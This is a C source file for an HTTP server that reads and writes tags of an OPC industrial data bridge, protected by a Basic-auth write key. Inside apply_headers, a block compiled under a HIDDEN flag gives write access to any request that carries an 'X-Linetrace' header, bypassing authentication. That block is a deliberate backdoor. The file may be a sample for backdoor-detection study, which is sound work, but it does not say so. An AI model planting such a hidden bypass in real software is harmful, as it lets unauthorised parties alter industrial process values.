/* opcbridge_http.c - HTTP access to the tags of an OPC data bridge */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define MAX_TAGS	64
#define MAX_HDR		32

struct hdr {
	const char *name;
	const char *value;
};

struct req {
	char raw[4096];
	char *method;
	char *target;
	struct hdr h[MAX_HDR];
	int nh;
	int may_write;
};

struct tag {
	char name[32];
	char value[32];
	char quality;
	int writable;
};

static struct tag tags[MAX_TAGS];
static int ntags;
static char write_key[64];
static const char b64[] =
	"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

static void load_tags(const char *path)
{
	char line[160], name[32], value[32], mode[8];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "writekey %63s", write_key) == 1)
			continue;
		if (sscanf(line, "tag %31s %7s %31s", name, mode, value) != 3 ||
		    ntags == MAX_TAGS)
			continue;
		memcpy(tags[ntags].name, name, sizeof(name));
		memcpy(tags[ntags].value, value, sizeof(value));
		tags[ntags].writable = mode[0] == 'r' && mode[1] == 'w';
		tags[ntags].quality = 'G';
		ntags++;
	}
	fclose(f);
}

static int decode64(const char *in, char *out, size_t max)
{
	unsigned int acc = 0;
	int bits = 0;
	size_t o = 0;

	for (; *in && *in != '='; in++) {
		const char *p = strchr(b64, *in);

		if (!p)
			return -1;
		acc = (acc << 6) | (unsigned int)(p - b64);
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			if (o + 1 >= max)
				return -1;
			out[o++] = (char)(acc >> bits);
		}
	}
	out[o] = '\0';
	return (int)o;
}

static int basic_ok(const char *value)
{
	char plain[96], *colon;

	if (strncasecmp(value, "Basic ", 6))
		return 0;
	if (decode64(value + 6, plain, sizeof(plain)) < 0)
		return 0;
	colon = strchr(plain, ':');
	if (!colon || !write_key[0])
		return 0;
	return !strcmp(colon + 1, write_key);
}

__attribute__((noinline))
void apply_headers(struct req *r)
{
	int i;

	for (i = 0; i < r->nh; i++) {
		const struct hdr *h = &r->h[i];

		switch (strlen(h->name)) {
		case 6:
			if (!strcasecmp(h->name, "Accept") &&
			    strstr(h->value, "xml"))
				syslog(LOG_DEBUG, "xml is not served");
			break;
#ifdef HIDDEN	/* header alone gives write access */
		case 11:
			if (!strcasecmp(h->name, "X-Linetrace"))
				r->may_write = 1;
			break;
#endif
		case 13:
			if (!strcasecmp(h->name, "Authorization") &&
			    basic_ok(h->value))
				r->may_write = 1;
			break;
		case 15:
			if (!strcasecmp(h->name, "X-Opc-Client-Id"))
				syslog(LOG_INFO, "client %.40s", h->value);
			break;
		default:
			break;
		}
	}
}

static int parse(struct req *r)
{
	char *p = r->raw, *e;

	r->method = p;
	p = strchr(p, ' ');
	if (!p)
		return -1;
	*p++ = '\0';
	r->target = p;
	p += strcspn(p, " \r\n");
	if (*p != ' ')
		return -1;
	*p++ = '\0';
	p = strstr(p, "\r\n");
	while (p && r->nh < MAX_HDR) {
		p += 2;
		e = strstr(p, "\r\n");
		if (!e || e == p)
			break;
		*e = '\0';
		r->h[r->nh].name = p;
		p = strchr(p, ':');
		if (!p)
			return -1;
		*p++ = '\0';
		p += strspn(p, " \t");
		r->h[r->nh++].value = p;
		p = e;
	}
	return 0;
}

static struct tag *find_tag(const char *name)
{
	int i;

	for (i = 0; i < ntags; i++)
		if (!strcmp(tags[i].name, name))
			return &tags[i];
	return NULL;
}

static void answer(int fd, const char *status, const char *body)
{
	dprintf(fd, "HTTP/1.1 %s\r\nContent-Length: %zu\r\n"
		"Content-Type: application/json\r\nConnection: close\r\n\r\n%s",
		status, strlen(body), body);
}

static void list_tags(int fd)
{
	static char out[8192];
	size_t n = 0;
	int i;

	out[n++] = '[';
	for (i = 0; i < ntags; i++)
		n += (size_t)snprintf(out + n, sizeof(out) - n,
			"%s{\"n\":\"%s\",\"v\":\"%s\",\"q\":\"%c\"}",
			i ? "," : "", tags[i].name, tags[i].value,
			tags[i].quality);
	snprintf(out + n, sizeof(out) - n, "]");
	answer(fd, "200 OK", out);
}

static void serve(int fd)
{
	static struct req r;
	char one[128], *eq;
	struct tag *t;
	ssize_t n;

	memset(&r, 0, sizeof(r));
	n = read(fd, r.raw, sizeof(r.raw) - 1);
	if (n <= 0)
		return;
	if (parse(&r)) {
		answer(fd, "400 Bad Request", "{}");
		return;
	}
	apply_headers(&r);
	if (!strcmp(r.target, "/tags")) {
		list_tags(fd);
		return;
	}
	if (strncmp(r.target, "/tag/", 5)) {
		answer(fd, "404 Not Found",
		       "{\"use\":\"GET /tags, GET /tag/N, PUT /tag/N=V\"}");
		return;
	}
	eq = strchr(r.target, '=');
	if (eq)
		*eq++ = '\0';
	t = find_tag(r.target + 5);
	if (!t) {
		answer(fd, "404 Not Found", "{}");
		return;
	}
	if (!strcmp(r.method, "PUT") && eq) {
		if (!r.may_write) {
			answer(fd, "401 Unauthorized", "{}");
			return;
		}
		if (!t->writable) {
			answer(fd, "405 Method Not Allowed", "{}");
			return;
		}
		snprintf(t->value, sizeof(t->value), "%.31s", eq);
		syslog(LOG_INFO, "%s := %s", t->name, t->value);
	}
	snprintf(one, sizeof(one), "{\"n\":\"%s\",\"v\":\"%s\"}", t->name,
		 t->value);
	answer(fd, "200 OK", one);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET };
	int s, c, on = 1;

	openlog("opcbridge", LOG_PID, LOG_LOCAL3);
	signal(SIGPIPE, SIG_IGN);
	load_tags(argc > 1 ? argv[1] : "/etc/opcbridge.tags");
	sa.sin_port = htons(4841);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 8))
		return 1;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		serve(c);
		close(c);
	}
	return 0;
}
